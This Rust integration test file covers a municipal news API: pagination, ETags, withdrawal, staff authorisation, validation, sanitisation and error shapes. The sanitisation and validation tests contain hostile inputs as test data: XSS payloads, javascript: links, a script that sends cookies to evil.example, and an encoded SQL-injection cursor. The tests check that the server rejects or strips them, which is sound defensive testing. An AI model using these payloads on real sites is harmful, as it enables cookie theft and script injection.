//! News against the real server on loopback: cursor pagination over the 30 sample items, 304 while
//! nothing changes and a new ETag after a publication, withdrawal, staff authorisation,
//! sanitisation on publication, and the bytes on the wire of an unchanged news refresh and an
//! unchanged guide sync.

use std::collections::HashSet;

use baladiya_core::wire::{NewsCategory, NewsItem, NewsPage};
use baladiya_tests::{http_client, TestServer, STAFF_TOKEN};
use reqwest::header::{ETAG, IF_NONE_MATCH};
use reqwest::StatusCode;
use serde_json::{json, Value};

async fn page(http: &reqwest::Client, base: &str, query: &str) -> NewsPage {
    let resp = http.get(format!("{base}api/v1/news?{query}")).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK, "{query}");
    resp.json().await.unwrap()
}

/// Every listed item, following cursors `limit` at a time.
async fn walk(http: &reqwest::Client, base: &str, limit: u32) -> Vec<NewsItem> {
    let mut all = Vec::new();
    let mut cursor: Option<String> = None;
    for _ in 0..100 {
        let query = match &cursor {
            Some(c) => format!("limit={limit}&cursor={c}"),
            None => format!("limit={limit}"),
        };
        let p = page(http, base, &query).await;
        assert!(p.items.len() <= limit as usize);
        all.extend(p.items);
        match p.next_cursor {
            Some(c) => cursor = Some(c),
            None => return all,
        }
    }
    panic!("the cursors never end");
}

async fn publish(http: &reqwest::Client, base: &str, item: Value) -> reqwest::Response {
    http.post(format!("{base}api/v1/staff/news")).bearer_auth(STAFF_TOKEN).json(&item).send().await.unwrap()
}

fn item(title: &str) -> Value {
    json!({
        "title": {"ar": format!("عنوان {title}"), "en": format!("Title {title}")},
        "body": {"ar": "نص الخبر", "en": "The story"},
        "category": "announcement",
    })
}

async fn etag_of(http: &reqwest::Client, url: &str) -> String {
    let resp = http.get(url).header("accept-encoding", "gzip").send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    resp.headers()[ETAG].to_str().unwrap().to_owned()
}

async fn conditional(http: &reqwest::Client, url: &str, etag: &str) -> reqwest::Response {
    http.get(url).header("accept-encoding", "gzip").header(IF_NONE_MATCH, etag).send().await.unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn cursors_cover_every_item_once_newest_first() {
    let server = TestServer::start();
    let (http, base) = (http_client(), server.url());
    let everything = page(&http, &base, "limit=100").await;
    assert_eq!(everything.items.len(), 30);
    assert_eq!(everything.next_cursor, None);
    for limit in [1, 7, 10, 29, 30] {
        let walked = walk(&http, &base, limit).await;
        let ids: HashSet<&str> = walked.iter().map(|i| i.id.as_str()).collect();
        assert_eq!(walked.len(), 30, "limit {limit}");
        assert_eq!(ids.len(), 30, "limit {limit}: duplicates");
        assert_eq!(walked, everything.items, "limit {limit}: the same order");
    }
    let order: Vec<(&str, &str)> =
        everything.items.iter().map(|i| (i.published_at.as_str(), i.id.as_str())).collect();
    assert!(order.windows(2).all(|w| w[0] > w[1]), "newest first");
    assert_eq!(page(&http, &base, "").await.items.len(), 20, "default limit");
    for c in [NewsCategory::WaterSchedule, NewsCategory::ServiceInterruption, NewsCategory::Event] {
        assert!(everything.items.iter().any(|i| i.category == c));
    }
    assert!(everything.items.iter().any(|i| i.important));
    for item in &everything.items {
        assert!(!item.title.ar.is_empty() && !item.title.en.is_empty() && !item.body.ar.is_empty());
    }

    // A cursor stays good when something newer is published.
    let first = page(&http, &base, "limit=10").await;
    assert_eq!(publish(&http, &base, item("new")).await.status(), StatusCode::CREATED);
    let next = page(&http, &base, &format!("limit=10&cursor={}", first.next_cursor.unwrap())).await;
    assert_eq!(next.items, everything.items[10..20]);

    for bad in ["limit=0", "limit=101", "limit=abc", "limit=-1", "cursor=nonsense", "cursor=eCcgT1IgMT0x"] {
        let resp = http.get(format!("{base}api/v1/news?{bad}")).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "{bad}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn unchanged_news_is_304_and_a_publication_moves_the_etag() {
    let server = TestServer::start();
    let (http, base) = (http_client(), server.url());
    let url = format!("{base}api/v1/news?limit=100");
    let etag = etag_of(&http, &url).await;
    let again = conditional(&http, &url, &etag).await;
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(again.headers()[ETAG], etag.as_str());
    assert!(again.bytes().await.unwrap().is_empty());
    // Another limit is another representation.
    let other = conditional(&http, &format!("{base}api/v1/news?limit=20"), &etag).await;
    assert_eq!(other.status(), StatusCode::OK);

    let resp = publish(&http, &base, item("fresh")).await;
    assert_eq!(resp.status(), StatusCode::CREATED);
    let created: NewsItem = resp.json().await.unwrap();
    let after = conditional(&http, &url, &etag).await;
    assert_eq!(after.status(), StatusCode::OK);
    let new_etag = after.headers()[ETAG].to_str().unwrap().to_owned();
    assert_ne!(new_etag, etag);
    let list = page(&http, &base, "limit=100").await;
    assert_eq!(list.items.len(), 31);
    assert_eq!(list.items[0], created, "the new item comes first");
    assert_eq!(conditional(&http, &url, &new_etag).await.status(), StatusCode::NOT_MODIFIED);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_withdrawn_item_disappears() {
    let server = TestServer::start();
    let (http, base) = (http_client(), server.url());
    let url = format!("{base}api/v1/news?limit=100");
    let before = page(&http, &base, "limit=100").await;
    let etag = etag_of(&http, &url).await;
    let victim = before.items[3].id.clone();
    let resp = http
        .delete(format!("{base}api/v1/staff/news/{victim}"))
        .bearer_auth(STAFF_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let after = page(&http, &base, "limit=100").await;
    assert_eq!(after.items.len(), 29);
    assert!(after.items.iter().all(|i| i.id != victim));
    assert!(walk(&http, &base, 4).await.iter().all(|i| i.id != victim), "nor on any page");
    assert_eq!(conditional(&http, &url, &etag).await.status(), StatusCode::OK, "the ETag moved");

    // Withdrawing again changes nothing; an unknown id is 404; its id is not reused.
    let etag = etag_of(&http, &url).await;
    let again = http
        .delete(format!("{base}api/v1/staff/news/{victim}"))
        .bearer_auth(STAFF_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), StatusCode::OK);
    assert_eq!(conditional(&http, &url, &etag).await.status(), StatusCode::NOT_MODIFIED);
    let unknown = http
        .delete(format!("{base}api/v1/staff/news/no-such-item"))
        .bearer_auth(STAFF_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(unknown.status(), StatusCode::NOT_FOUND);
    let mut reuse = item("reuse");
    reuse["id"] = json!(victim);
    assert_eq!(publish(&http, &base, reuse).await.status(), StatusCode::CONFLICT);
}

#[tokio::test(flavor = "multi_thread")]
async fn only_staff_publish_and_withdraw() {
    let server = TestServer::start();
    let (http, base) = (http_client(), server.url());
    let url = format!("{base}api/v1/staff/news");
    let none = http.post(&url).json(&item("x")).send().await.unwrap();
    assert_eq!(none.status(), StatusCode::UNAUTHORIZED);
    let wrong = http.post(&url).bearer_auth("not-the-token").json(&item("x")).send().await.unwrap();
    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    let del = http.delete(format!("{url}/water-schedule-2026-48")).send().await.unwrap();
    assert_eq!(del.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(page(&http, &base, "limit=100").await.items.len(), 30);
}

#[tokio::test(flavor = "multi_thread")]
async fn publication_assigns_id_and_time_and_validates() {
    let server = TestServer::start();
    let (http, base) = (http_client(), server.url());
    let resp = publish(&http, &base, item("auto")).await;
    assert_eq!(resp.status(), StatusCode::CREATED);
    let created: NewsItem = resp.json().await.unwrap();
    assert!(!created.id.is_empty());
    let at = chrono::DateTime::parse_from_rfc3339(&created.published_at).unwrap();
    assert!((chrono::Utc::now() - at.with_timezone(&chrono::Utc)).num_seconds().abs() < 60);

    let mut given = item("given");
    given["id"] = json!("road-works-2026-12");
    given["published_at"] = json!("2026-01-10T09:00:00+02:00");
    given["image_url"] = json!("https://media.baladiya.example/a.jpg");
    given["important"] = json!(true);
    given["category"] = json!("service_interruption");
    let created: NewsItem = publish(&http, &base, given).await.json().await.unwrap();
    assert_eq!(created.id, "road-works-2026-12");
    assert_eq!(created.published_at, "2026-01-10T07:00:00Z");
    assert!(created.important);

    for (field, value) in [
        ("image_url", json!("http://media.baladiya.example/a.jpg")),
        ("image_url", json!("javascript:alert(1)")),
        ("category", json!("gossip")),
        ("id", json!("Not An Id")),
        ("published_at", json!("2999-01-01T00:00:00Z")),
        ("title", json!({"ar": "", "en": "x"})),
        ("title", json!({"ar": "س".repeat(201), "en": "x"})),
        ("body", json!({"ar": "س".repeat(8001), "en": "x"})),
        ("body", json!({"ar": "<script>only a script</script>", "en": "x"})),
    ] {
        let mut bad = item("bad");
        bad[field] = value;
        let resp = publish(&http, &base, bad).await;
        assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "{field}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn published_text_is_sanitised() {
    let server = TestServer::start();
    let (http, base) = (http_client(), server.url());
    let nasty = json!({
        "title": {"ar": "تنبيه <b>مهم</b><script>alert(1)</script>", "en": "Notice <img src=x onerror=alert(1)>"},
        "body": {
            "ar": "اقرأ [الجدول](https://baladiya.example/water) ثم [اضغط هنا](javascript:alert(document.cookie))\n\n<script>fetch('https://evil.example/'+document.cookie)</script>**مهم**",
            "en": "&lt;script&gt;alert(1)&lt;/script&gt; <iframe src=\"https://evil.example\"></iframe>[click](JAVASCRIPT:alert(1)) [plain](http://insecure.example) <a href=\"javascript:alert(1)\">link</a>\n- one\n- two"
        },
        "category": "announcement",
    });
    let resp = publish(&http, &base, nasty).await;
    assert_eq!(resp.status(), StatusCode::CREATED);
    let created: NewsItem = resp.json().await.unwrap();
    let listed = page(&http, &base, "limit=1").await.items.remove(0);
    assert_eq!(listed, created, "what is listed is what was stored");
    let raw = http.get(format!("{base}api/v1/news?limit=1")).send().await.unwrap().text().await.unwrap();
    for text in [&listed.title.ar, &listed.title.en, &listed.body.ar, &listed.body.en, &raw] {
        assert!(!text.contains('<'), "a tag came back: {text}");
        assert!(!text.to_lowercase().contains("javascript:"), "a javascript: link came back: {text}");
        assert!(!text.contains("evil.example"), "{text}");
        assert!(!text.contains("\\u003c"), "{text}");
    }
    assert_eq!(listed.title.ar, "تنبيه مهم");
    assert_eq!(listed.title.en, "Notice");
    assert!(listed.body.ar.contains("[الجدول](https://baladiya.example/water)"), "https links stay");
    assert!(listed.body.ar.contains("اضغط هنا"), "a dropped link keeps its text");
    assert!(listed.body.ar.contains("**مهم**"));
    assert!(listed.body.en.contains("click") && listed.body.en.contains("plain"));
    assert!(!listed.body.en.contains("http://"));
    assert!(listed.body.en.ends_with("- one\n- two"));
}

/// Send `request` as is over a fresh connection and return the bytes of the response head (a 304
/// has no body): status line, headers and the blank line.
fn raw_response_head(addr: std::net::SocketAddr, request: &str) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = stream.read(&mut chunk).unwrap();
        assert!(n > 0, "connection closed early");
        buf.extend_from_slice(&chunk[..n]);
    }
    buf
}

/// A typical client's conditional GET: what reqwest in the core sends.
fn typical_request(addr: std::net::SocketAddr, path: &str, etag: &str) -> String {
    format!(
        "GET {path} HTTP/1.1\r\naccept-encoding: gzip\r\nif-none-match: {etag}\r\n\
         user-agent: baladiya-core/0.1.0\r\naccept: */*\r\nhost: {addr}\r\n\r\n"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn unchanged_refreshes_cost_few_bytes_on_the_wire() {
    let server = TestServer::start();
    let (http, base, addr) = (http_client(), server.url(), server.addr());

    let news_etag = etag_of(&http, &format!("{base}api/v1/news?limit=100")).await;
    let guide_etag = etag_of(&http, &format!("{base}api/v1/guide")).await;
    let version: i64 =
        guide_etag.trim_matches('"').trim_start_matches('g').trim_end_matches("-gz").parse().unwrap();

    let mut figures = Vec::new();
    for (path, etag) in [
        ("/api/v1/news?limit=100".to_owned(), &news_etag),
        (format!("/api/v1/guide?since={version}"), &guide_etag),
    ] {
        let request = typical_request(addr, &path, etag);
        let head = raw_response_head(addr, &request);
        let text = String::from_utf8_lossy(&head).into_owned();
        assert!(text.starts_with("HTTP/1.1 304 "), "{path}: {text}");
        assert!(head.len() <= 600, "{path}: {} bytes\n{text}", head.len());
        println!(
            "unchanged GET {path}: request {} bytes, response {} bytes\n{text}",
            request.len(),
            head.len()
        );
        figures.push(head.len());
    }
    println!("bytes on the wire (response, headers included): news {} / guide {}", figures[0], figures[1]);
}

/// Every error of the municipal JSON API is `{"error": …}` as JSON, whatever refused the request:
/// a handler, or the framework's extractors (wrong type 422, no Content-Type 415, malformed JSON,
/// duplicated query parameters 400), an unknown path (404) or method (405). Open311 paths answer
/// in the spec's shape.
#[tokio::test(flavor = "multi_thread")]
async fn every_error_has_its_documented_shape() {
    let server = TestServer::start();
    let (http, base) = (http_client(), server.url());
    let service = serde_json::to_value(&server.catalogue().await.services[0]).unwrap();
    let mut wrong_type = service.clone();
    wrong_type["fees"] = json!("free");
    let put = |body: Option<String>, content_type: Option<&str>| {
        let mut r = http
            .put(format!("{base}api/v1/staff/guide/services/{}", service["id"].as_str().unwrap()))
            .bearer_auth(STAFF_TOKEN);
        if let Some(t) = content_type {
            r = r.header("content-type", t);
        }
        if let Some(b) = body {
            r = r.body(b);
        }
        r.send()
    };
    let cases: Vec<(&str, reqwest::Response, u16)> = vec![
        (
            "guide PUT, a wrong type",
            put(Some(wrong_type.to_string()), Some("application/json")).await.unwrap(),
            422,
        ),
        ("guide PUT, no Content-Type", put(Some(service.to_string()), None).await.unwrap(), 415),
        ("guide PUT, malformed JSON", put(Some("{".into()), Some("application/json")).await.unwrap(), 400),
        (
            "guide, since twice",
            http.get(format!("{base}api/v1/guide?since=1&since=2")).send().await.unwrap(),
            400,
        ),
        (
            "news, limit twice",
            http.get(format!("{base}api/v1/news?limit=1&limit=2")).send().await.unwrap(),
            400,
        ),
        (
            "news POST, a wrong type",
            http.post(format!("{base}api/v1/staff/news"))
                .bearer_auth(STAFF_TOKEN)
                .json(&json!({"title": 5}))
                .send()
                .await
                .unwrap(),
            400,
        ),
        (
            "staff action, malformed JSON",
            http.post(format!("{base}api/v1/staff/requests/1/actions"))
                .bearer_auth(STAFF_TOKEN)
                .header("content-type", "application/json")
                .body("{\"action\":")
                .send()
                .await
                .unwrap(),
            400,
        ),
        (
            "staff entry, no Content-Type",
            http.post(format!("{base}api/v1/staff/requests"))
                .bearer_auth(STAFF_TOKEN)
                .body("{}")
                .send()
                .await
                .unwrap(),
            415,
        ),
        ("an unknown path", http.get(format!("{base}api/v1/nothing-here")).send().await.unwrap(), 404),
        (
            "a staff path segment that is not UTF-8",
            http.delete(format!("{base}api/v1/staff/guide/services/%FF"))
                .bearer_auth(STAFF_TOKEN)
                .send()
                .await
                .unwrap(),
            400,
        ),
        (
            "a bill path segment that is not UTF-8",
            http.get(format!("{base}api/v1/bills/%FF%FE"))
                .header("X-Baladiya-Verification", "0599123456")
                .send()
                .await
                .unwrap(),
            400,
        ),
        ("a wrong method", http.delete(format!("{base}api/v1/guide")).send().await.unwrap(), 405),
    ];
    for (what, resp, status) in cases {
        assert_eq!(resp.status().as_u16(), status, "{what}");
        let content_type = resp.headers().get("content-type").map(|v| v.to_str().unwrap().to_owned());
        assert!(
            content_type.as_deref().is_some_and(|t| t.starts_with("application/json")),
            "{what}: {content_type:?}"
        );
        let body: Value = resp.json().await.unwrap();
        assert!(body["error"].as_str().is_some_and(|e| !e.is_empty()), "{what}: {body}");
    }
    // Open311 paths answer in the spec's shape, even where no route matched.
    for (path, status) in [("open311/v2/nothing.json", 404), ("open311/v2/requests/%FF.json", 400)] {
        let resp = http.get(format!("{base}{path}")).send().await.unwrap();
        assert_eq!(resp.status(), status, "{path}");
        let body: Value = resp.json().await.unwrap();
        assert_eq!(body[0]["code"], status, "{path}: {body}");
    }
}
